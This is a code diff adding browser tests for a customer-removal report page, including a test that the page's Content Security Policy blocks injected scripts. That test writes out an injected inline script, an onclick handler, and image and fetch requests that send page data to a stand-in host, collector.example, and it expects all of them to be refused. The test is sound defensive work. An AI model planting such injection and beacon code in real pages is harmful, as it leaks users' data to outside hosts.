@@ -68,6 +68,8 @@ describe('filters', () => {
     await look.page.getByRole('button', { name: 'removals 5' }).click();
     expect(await addresses(look)).toEqual([...ALL.slice(0, 4), 'kai@acme.example']);
     expect(new URL(look.page.url()).hash).toBe('#removals=only');
+    await look.page.locator('.line', { hasText: 'kai@' }).click();
+    expect(await look.page.locator('.detail .without').innerText()).toBe('Without shop@acme.example');
   });
 
   it('go by action, customer, rule, search and day, together and each for itself', async () => {
@@ -267,6 +269,33 @@ describe('hostile text', () => {
   });
 });
 
+describe('the policy of the page', () => {
+  it('lets nothing run or load that is not its own', async () => {
+    await using look = await open(MIXED);
+    const outcome = await look.page.evaluate<readonly string[]>(`(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'document.title = "run"';
+      document.body.append(script);
+      document.body.setAttribute('onclick', 'document.title = "clicked"');
+      document.body.click();
+      const image = new Image();
+      const loaded = await new Promise((resolve) => {
+        image.onload = () => resolve('loaded');
+        image.onerror = () => resolve('refused');
+        image.src = 'https://collector.example/?' + document.title;
+      });
+      const sent = await fetch('https://collector.example/').then(() => 'sent', () => 'refused');
+      return [document.title, loaded, sent];
+    })()`);
+    expect(outcome).toEqual(['Plan for 4 customers · Rollcall', 'refused', 'refused']);
+    const refused = look.incidents.filter((incident) => incident.includes('Content Security Policy'));
+    expect(refused.join('\n')).toMatch(/Loading the image/);
+    expect(refused.join('\n')).toMatch(/Connecting to 'https:\/\/collector/);
+    expect(refused.join('\n')).toMatch(/inline script/);
+    expect(refused.join('\n')).toMatch(/inline event handler/);
+  });
+});
+
 describe('without JavaScript', () => {
   it('says the totals and every removal', async () => {
     await using look = await open(MIXED, { javaScriptEnabled: false });
@@ -279,6 +308,7 @@ describe('without JavaScript', () => {
       'kim@cedar.example',
       'kai@acme.example',
     ]);
+    expect(await look.page.locator('.removals tr').last().innerText()).toContain('without shop@acme.example');
     expect(await look.page.locator('#changes').isVisible()).toBe(false);
     expect(look.incidents).toEqual([]);
   });
